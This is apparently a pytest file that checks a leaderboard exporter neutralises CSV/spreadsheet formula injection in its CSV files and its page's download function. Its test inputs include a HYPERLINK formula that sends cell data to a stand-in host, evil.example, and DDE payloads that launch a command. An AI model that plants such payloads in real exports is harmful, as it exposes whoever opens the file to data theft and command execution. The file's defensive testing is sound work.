"""CSV/spreadsheet injection: text cells starting with = + - @ tab or CR get a leading ' (OWASP),
in leaderboard.csv, leaderboard-delta.csv and the page's "Download CSV"; numbers never do."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess

import pytest

from harness.cli import main
from leaderboards.export import safe_text

from .conftest import make_run

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, CALC, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
# after leading spaces (spreadsheets skip them) and in full-width forms (issue 40)
PAYLOADS += [" =1+1", "\u3000=1+1", "\uff1dHYPERLINK(1)", " \uff0bcmd", "\uff20SUM(1)"]


def test_safe_text_is_owasp_prefix_for_text_only():
    for text in PAYLOADS:
        assert safe_text(text) == "'" + text
    for text in ("plain", "8K", "", "'=already", "a=b", "x =y"):
        assert safe_text(text) == text


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("inject")
    base, _ = make_run("baseline", 1, 95.0, mode="full", longbench=False, short=False)
    evil, _ = make_run(HYPERLINK, 2, 80.0, mode=CALC, longbench=False, short=False)
    evil["run"]["model"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    minus, _ = make_run("-2+3+cmd|' /C calc'!A0", 3, 70.0, mode="-x", longbench=False, short=False)
    paths = []
    for i, data in enumerate((base, evil, minus)):
        (root / f"r{i}.json").write_text(json.dumps(data))
        paths.append(str(root / f"r{i}.json"))
    out = root / "site"
    assert main(["leaderboard", *paths, "--out", str(out), "--baseline", "baseline"]) == 0
    return out


def _rows(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


@pytest.mark.parametrize("name", ["leaderboard.csv", "leaderboard-delta.csv"])
def test_csv_files_neutralise_text_cells(site, name):
    rows = _rows(site / name)
    by_run = {r[0]: r for r in rows[1:]}
    assert set(by_run) == {"baseline", "'" + HYPERLINK, "'-2+3+cmd|' /C calc'!A0"}
    evil = by_run["'" + HYPERLINK]
    assert evil[1] == "'@SUM(1+1)*cmd|' /C calc'!A0" and evil[2] == "'" + CALC
    assert by_run["'-2+3+cmd|' /C calc'!A0"][2] == "'-x"
    for row in rows[1:]:  # no cell a spreadsheet would run: text is prefixed, numbers parse
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)


def test_negative_deltas_stay_numbers(site):
    rows = _rows(site / "leaderboard-delta.csv")
    header, evil = rows[0], next(r for r in rows[1:] if r[0] == "'" + HYPERLINK)
    avg = header.index(next(h for h in header if h.endswith("Avg")))
    assert evil[avg].startswith("-") and float(evil[avg]) < 0  # 80 vs 95: a negative number, no '


def _page_csv_field(html: str) -> str:
    m = re.search(r"function csvField\(s\) \{.*?\n  \}", html, re.DOTALL)
    assert m, "csvField not found in the page"
    return m.group(0)


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed (apt-get install nodejs)")
def test_page_download_csv_field_neutralises_like_python(site):
    html = (site / "index.html").read_text(encoding="utf-8")
    cases = PAYLOADS + ["plain", "-1.25", "+3", "-0.00", "'=x", "8K"]
    script = _page_csv_field(html) + "\nconsole.log(JSON.stringify(" + json.dumps(cases) + ".map(csvField)));"
    out = json.loads(subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True).stdout)
    expected = []
    for s in cases:
        numeric = re.fullmatch(r"[+-]?\d+(\.\d+)?", s) is not None
        v = s if numeric else safe_text(s)
        expected.append('"' + v.replace('"', '""') + '"' if re.search(r'[",\r\n]', v) else v)
    assert out == expected
